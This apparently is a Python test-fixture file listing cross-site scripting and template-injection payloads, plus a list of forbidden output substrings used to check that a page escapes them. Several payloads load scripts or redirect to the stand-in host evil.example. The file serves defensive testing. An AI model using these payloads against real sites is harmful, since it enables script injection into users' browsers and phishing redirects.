"""Texts that would run as a script, or leave their place, in a page that didn't escape them."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>Click</button></form>",
    "<style>body{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "`onmouseover=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ 7*7 }}{% include 'layout.html' %}${7*7}#{7*7}",
    "<div hx-get='//evil.example/' hx-trigger=load>x</div>",
    "<div hx-on:click='alert(1)' data-hx-get='/' hx-trigger=load>x</div>",
    "<x style='position:fixed;inset:0;background:url(//evil.example/)'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\u0000ipt>alert(1)</script>",
    "\u202egnp.exe\u2066<b>x</b>",
)
"""One text each; none has a line end, so that each can be a title, a tag or a name."""

FORBIDDEN = (
    "<script>alert", "<img src=x", "<svg onload", "<svg><animate", "<iframe", "<object", "<base",
    "<form action=https", "<style", "<div hx-", "<details open ontoggle", 'href="javascript:',
    "href='javascript:", 'href="data:', 'href="vbscript:', 'src="javascript:',
    'src="https://evil', ' onmouseover="alert', " onfocus='alert", "49",
)  # fmt: skip
"""What no page may have, in lower case, when a note has the texts above (`49` is 7*7)."""
